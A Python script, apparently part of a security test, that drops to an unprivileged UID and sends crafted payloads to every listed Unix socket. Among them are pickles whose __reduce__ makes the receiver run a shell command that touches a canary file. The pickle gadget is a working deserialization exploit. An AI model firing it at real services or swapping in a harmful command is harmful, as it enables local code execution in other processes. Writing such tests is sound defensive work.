"""Another local user, who connects to sockets by their names and sends what might be executed.

`python attacker.py FOLDER UID` becomes that user, who has no rights, and reads names as
/proc/net/unix has them, a line for each attempt. When there are no more it writes what came of
all as JSON. FOLDER is where a file appears if what was sent is executed. Everything is imported
before, and from the standard library alone: the user may not be allowed to read the rest.
"""

import contextlib
import json
import os
import pickle
import socket
import struct
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

WAIT_S = 0.03


class Bomb:
    """What makes a file where it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Have unpickling call the shell."""
        return os.system, (f"touch {self.file}",)


def payloads(folder: Path, number: int) -> Iterator[bytes]:
    """Yield what is sent, each on its own connection: framed pickles, and garbage."""
    for protocol in (0, 4):
        bomb = pickle.dumps(Bomb(folder / f"owned-{number}-{protocol}"), protocol)
        yield struct.pack(">I", len(bomb)) + bomb
        yield struct.pack("<I", len(bomb)) + bomb
        yield struct.pack(">Q", len(bomb)) + bomb
        yield bomb
    yield struct.pack(">I", 0xFFFFFFFF)
    yield struct.pack(">I", 3) + b"\x80\x04."
    yield os.urandom(200)
    yield b'{"method": "group_started", "arguments": []}\n'
    yield b"GET / HTTP/1.1\r\n\r\n"
    yield b""


def attack(name: str, folder: Path, number: int, came: Counter[str]) -> None:
    """Send everything to one socket; `@` stands for the abstract namespace."""
    address = "\0" + name[1:] if name.startswith("@") else name
    for payload in payloads(folder, number):
        with socket.socket(socket.AF_UNIX) as end:
            end.settimeout(WAIT_S)
            try:
                end.connect(address)
                came["connections"] += 1
                end.sendall(payload)
                with contextlib.suppress(TimeoutError):
                    came["answers"] += bool(end.recv(1 << 16))
            except OSError as error:
                came[f"{type(error).__name__}"] += 1


def main() -> None:
    """Attack what is named on stdin."""
    folder, uid, came = Path(sys.argv[1]), int(sys.argv[2]), Counter[str]()
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    for number, line in enumerate(sys.stdin):
        attack(line.rstrip("\n"), folder, number, came)
    sys.stdout.write(json.dumps(came))


if __name__ == "__main__":
    main()
